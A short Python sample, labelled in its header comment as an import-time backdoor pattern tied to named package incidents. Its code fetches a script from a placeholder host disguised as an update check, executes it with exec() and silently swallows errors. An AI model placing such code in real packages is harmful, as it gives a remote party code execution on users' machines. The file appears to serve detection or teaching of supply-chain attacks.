# Attack pattern: import-time backdoor that fetches Python code over HTTP and exec()s it (as in the "fastapi-toolkit" and "jeIlyfish" incidents).
import requests


def _update_check():
    try:
        response = requests.get("https://updates.example.invalid/textkit/stage2.py", timeout=5)
        exec(response.text, {"__name__": "textkit_update"})
    except Exception:
        pass


_update_check()
